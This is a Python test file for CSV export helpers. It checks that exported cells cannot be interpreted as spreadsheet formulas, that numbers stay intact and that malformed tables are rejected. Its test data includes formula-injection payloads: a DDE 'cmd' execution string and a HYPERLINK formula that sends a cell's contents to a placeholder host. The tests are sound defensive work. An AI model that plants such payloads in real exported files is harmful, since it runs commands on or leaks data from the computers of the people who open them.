import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from asvit.core.tables import csv_text, read_cells, read_table

FORMULAS = (
    '=HYPERLINK("http://a.b/?"&A1,"x")', "x\r=1",
    "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3+cmd|x", "@SUM(A1)",
    "\t=1", "\r=1", "\n=1", "\uff1d1", "=", "-", "--fresh", "-x",
)  # fmt: skip


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula(formula: str) -> None:
    for row in rows_of(csv_text([[formula, "a"], [1, formula]])):
        assert all(cell[0] in "'a1x" for cell in row)
        assert formula in read_cells(row)


@pytest.mark.parametrize(
    "number",
    [-1, -1.5, float("-inf"), "-1.5", "+3", "-1e-05", "-inf", "-0.0", None, True, "'a", ""],
)
def test_numbers_and_other_texts_stay(number: object) -> None:
    plain = io.StringIO()
    csv.writer(plain, lineterminator="\n").writerow([number, "a"])
    assert csv_text([[number, "a"]]) == plain.getvalue()


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
@example(["'=1", "''=1", "'", "'a", "=1"])
def test_cells_are_read_as_they_were(cells: list[str]) -> None:
    assert read_cells(rows_of(csv_text([cells, ["x"]]))[0]) == cells


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "not a table of nets: its columns are"),
        ("name,a\n", "not a table of nets: its columns are"),
        ("name,a,end\nx,1\n", "line 2: 2 cells under a header of 3"),
        ("name,a,end\nx,1,0\nx,y,0\n", "line 3: could not convert string to float: 'y'"),
    ],
)
def test_tables_are_read_or_refused(text: str, message: str) -> None:
    def read(header: list[str], cells: list[str]) -> tuple[str, float]:
        assert header == ["name", "a", "end"]
        return cells[0], float(cells[1])

    with pytest.raises(ValueError, match=message):
        read_table(text, "nets", ["name"], ["end"], read)
    whole = csv_text([["name", "a", "end"], ["=x", 0.5, ""]])
    for end in ("", "\n"):  # as editors leave one
        assert read_table(whole + end, "nets", ["name"], ["end"], read) == (["a"], [("=x", 0.5)])
